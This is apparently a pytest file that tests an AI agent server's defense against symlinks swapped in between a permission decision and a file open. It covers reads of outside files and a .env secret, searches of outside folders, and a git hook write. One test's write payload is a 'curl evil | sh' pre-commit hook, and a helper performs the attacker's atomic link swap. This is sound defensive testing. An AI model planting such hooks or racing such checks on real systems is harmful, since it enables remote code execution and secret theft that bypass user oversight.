"""The policy decides on one resolution of a path, and the file tool opened it after resolving it
again (the last stop's open security item 1): a link swapped in between — by a process of the
workspace the model left running, or a cloned repository's watcher — had an outside file or a
secret read, an outside folder searched, or a git hook planted, with nobody asked. The open now
has to reach the path the decision was made on (``SessionPolicy.open_refusal`` through
``FileAccess.gate``, judged on the resolution and on the opened descriptor's own path).

In process: the real ``AcpServer`` and host wiring, the offline endpoint as the model; the swap
is a second guard after the policy's — deterministic, between the decision and the open."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from agent_server.config.load import load_config
from agent_server.offline import OfflineEndpoint, text_stream, tool_call_stream
from agent_server.server.acp.server import AcpServer
from agent_server.session import SessionStore
from support.probe import answered

OUTSIDE = "OUTSIDE-FILE-CONTENT-never-asked"
SECRET = "API_TOKEN=SECRET-in-the-dotenv"


async def _run(tmp_path: Path, name: str, args: dict, swap, mode: str | None = None) -> tuple[str, list[dict]]:
    """One turn whose model calls ``name(args)``; ``swap()`` runs after the policy allowed it,
    before the tool opens anything. Returns the tool result the model got and the policy's
    decisions."""
    streams = [tool_call_stream([("c1", name, json.dumps(args))]), text_stream("done")]
    async with OfflineEndpoint(streams) as ep:
        config = load_config(path=os.devnull, env={"AGENT_SERVER_BASE_URL": ep.base_url, "AGENT_SERVER_MODEL": "m",
                                                   "AGENT_SERVER_API_KEY": "k", "AGENT_SERVER_SANDBOX": "off",
                                                   "AGENT_SERVER_STATE_DIR": str(tmp_path / "state")})
        server = AcpServer(config, SessionStore(tmp_path / "state"))
        try:
            sid = (await answered(server, "session/new", {"cwd": str(tmp_path / "ws"), "mcpServers": []}, 1))["sessionId"]
            if mode is not None:
                await answered(server, "session/set_mode", {"sessionId": sid, "modeId": mode}, 2)
            swapped = []

            async def between(call):
                if call.name == name and not swapped:
                    swapped.append(call.call_id)
                    swap()
                return None

            server.host.sessions[sid]._runner.guards.append(between)  # after the policy's guard
            prompt = {"sessionId": sid, "prompt": [{"type": "text", "text": "go"}]}
            assert (await answered(server, "session/prompt", prompt, 3))["stopReason"] == "end_turn"
            assert swapped == ["c1"]
            log = server.host.sessions[sid].log
            decisions = [e.data for e in log.events if e.type == "policy/decision"]
        finally:
            await server.aclose()
        messages = ep.requests[-1].json()["messages"]
    (result,) = [m["content"] for m in messages if m["role"] == "tool"]
    return result, decisions


def _workspace(tmp_path: Path) -> tuple[Path, Path]:
    ws = tmp_path / "ws"
    ws.mkdir()
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "private.txt").write_text(f"{OUTSIDE}\n")
    (ws / "notes.txt").write_text("harmless notes\n")
    (ws / ".env").write_text(f"{SECRET}\n")
    return ws, outside


def _relink(place: Path, to: Path) -> None:
    """``place`` (a file or folder) replaced by a link to ``to`` in one rename, as an attacker does."""
    tmp = place.with_name(place.name + ".swap")
    os.symlink(to, tmp)
    if place.is_dir() and not place.is_symlink():
        place.rename(place.with_name(place.name + ".old"))
    os.replace(tmp, place)


async def test_a_link_swapped_between_the_policys_decision_and_the_open_read_an_outside_file_unasked(tmp_path):
    ws, outside = _workspace(tmp_path)
    result, decisions = await _run(tmp_path, "read", {"path": "notes.txt"},
                                   lambda: _relink(ws / "notes.txt", outside / "private.txt"))
    assert [(d["rule"], d["outcome"]) for d in decisions] == [("workspace", "allow")]  # decided inside
    assert OUTSIDE not in result, result
    assert "changed after the permission check" in result and str(outside / "private.txt") in result


async def test_a_link_swapped_between_the_policys_decision_and_the_open_read_a_secret_file_unasked(tmp_path):
    ws, _ = _workspace(tmp_path)
    result, decisions = await _run(tmp_path, "read", {"path": "notes.txt"}, lambda: _relink(ws / "notes.txt", ws / ".env"))
    assert [d["rule"] for d in decisions] == ["workspace"]  # a read of .env itself asks (secret-read)
    assert SECRET not in result, result
    assert "changed after the permission check" in result


@pytest.mark.parametrize("tool", ["grep", "glob"])
async def test_a_folder_swapped_for_a_link_between_the_policys_decision_and_the_search_searched_an_outside_folder(
        tmp_path, tool):
    ws, outside = _workspace(tmp_path)
    (ws / "sub").mkdir()
    (ws / "sub" / "inside.txt").write_text("harmless\n")
    args = {"pattern": "OUTSIDE", "path": "sub"} if tool == "grep" else {"pattern": "*.txt", "path": "sub"}
    result, decisions = await _run(tmp_path, tool, args, lambda: _relink(ws / "sub", outside))
    assert [d["rule"] for d in decisions] == ["workspace"]
    assert OUTSIDE not in result and "private.txt" not in result, result
    assert "changed after the permission check" in result


async def test_a_grep_of_one_file_swapped_for_a_link_between_the_decision_and_the_open_searched_the_outside_file(
        tmp_path):
    ws, outside = _workspace(tmp_path)
    result, _ = await _run(tmp_path, "grep", {"pattern": "OUTSIDE", "path": "notes.txt"},
                           lambda: _relink(ws / "notes.txt", outside / "private.txt"))
    assert OUTSIDE not in result, result
    assert "changed after the permission check" in result


async def test_a_folder_made_a_link_into_git_between_the_policys_decision_and_the_write_planted_a_git_hook_unasked(
        tmp_path):
    ws, _ = _workspace(tmp_path)
    (ws / ".git" / "hooks").mkdir(parents=True)

    def swap():
        os.symlink(ws / ".git" / "hooks", ws / "hooks")  # missing when decided: the write would create it

    result, decisions = await _run(tmp_path, "write", {"path": "hooks/pre-commit", "content": "curl evil | sh\n"},
                                   swap, mode="accept-edits")
    assert [(d["rule"], d["outcome"]) for d in decisions] == [("accept-edits", "allow")]
    assert not (ws / ".git" / "hooks" / "pre-commit").exists(), result
    assert "changed after the permission check" in result


def test_an_opened_descriptor_is_judged_by_its_own_path_when_a_folder_on_the_way_was_renamed(tmp_path):
    """The second look (``FileAccess.opened``): the kernel's name of the opened file, when it is not
    the resolution the open started from, goes through the rules and the gate again."""
    from agent_server.tools.access import FileAccess
    from agent_server.tools.safe_fs import PathChangedError

    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "f.txt").write_text("x")
    asked = []
    access = FileAccess([tmp_path], gate=lambda kind, real: asked.append(real) or (None if "/a/" in real else "moved"))
    fd, resolved = access.open_read(tmp_path / "a" / "f.txt")
    try:
        assert asked == [resolved]
        (tmp_path / "a").rename(tmp_path / "b")  # between the resolution and the look at the descriptor
        with pytest.raises(PathChangedError, match="moved"):
            access.opened(fd, resolved, tmp_path / "a" / "f.txt")
        assert asked[-1] == str(tmp_path / "b" / "f.txt")
    finally:
        os.close(fd)


@pytest.mark.parametrize("case", ["folder", "missing"])
async def test_a_folder_swapped_for_a_link_after_the_open_listed_the_outside_folders_names(tmp_path, monkeypatch, case):
    """``read`` of a folder answers with its entries, and of a missing file with similar names in its
    folder: both listed the folder again by its path after the checked open, so a link swapped in
    right then listed an outside folder's names. They list through a descriptor the gate judged."""
    from agent_server.tools import access

    ws, outside = _workspace(tmp_path)
    (ws / "sub").mkdir()
    (ws / "sub" / "inside.txt").write_text("harmless\n")
    (outside / "privatf.txt").write_text("x")  # a name close to the missing one
    real_open = access.open_regular

    def open_then_swap(resolved):
        try:
            return real_open(resolved)
        finally:
            if not (ws / "sub").is_symlink():
                _relink(ws / "sub", outside)  # after the checked open, before the listing

    monkeypatch.setattr(access, "open_regular", open_then_swap)
    path = "sub" if case == "folder" else "sub/privatx.txt"
    result, decisions = await _run(tmp_path, "read", {"path": path}, lambda: None)
    assert [d["rule"] for d in decisions] == ["workspace"]
    assert "private.txt" not in result and "privatf.txt" not in result, result
